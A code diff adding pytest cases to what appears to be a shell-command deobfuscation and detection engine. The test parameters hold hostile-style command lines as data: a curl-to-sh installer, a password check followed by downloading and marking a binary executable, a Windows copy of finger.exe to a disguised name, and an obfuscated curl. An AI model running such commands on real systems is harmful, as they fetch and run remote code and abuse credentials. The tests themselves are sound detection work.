@@ -9,6 +9,8 @@ import pytest
 from app.detection.interpret import READERS, Behaviour, Interpretation
 from app.detection.interpret import interpret as _interpret
 from app.detection.interpret.budget import Budget
+from app.detection.interpret.facts import Facts
+from app.detection.interpret.posix import interpret_posix
 
 
 def interpret(text: str) -> Interpretation:
@@ -83,6 +85,25 @@ def test_vbs_written_with_echo_then_run_is_read_as_a_script() -> None:
 )
 def test_posix_expansion(text: str, expected: str) -> None:
     assert expected in reading(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'sh -c "$(curl -fsSL https://a.test/install.sh)" "" --unattended',
+        "dscl . -authonly me pw && curl -fsSL 'https://a.test/p' -o /tmp/p && chmod +x /tmp/p",
+        'cmd /c start "" /min cmd /c "copy %windir%\\system32\\finger.exe %temp%\\ct.exe"',
+    ],
+)
+def test_quoted_strings_with_nothing_to_expand_give_no_shell_layer(text: str) -> None:
+    """The same words quoted another way are no reading: such a layer only cost the rules and
+    decoders a second pass over the text."""
+    assert interpret_posix(text, Facts(), Budget(ms=1000, strict=True)) == text
+
+
+def test_a_quoted_string_with_something_to_expand_is_still_written_out() -> None:
+    assert "echo 'hi https://a.test/x'" in reading('u=a.test; echo "hi https://$u/x"')
+    assert "curl https://a.test" in reading('c"u"rl https://a.test')
 
 
 @pytest.mark.parametrize(
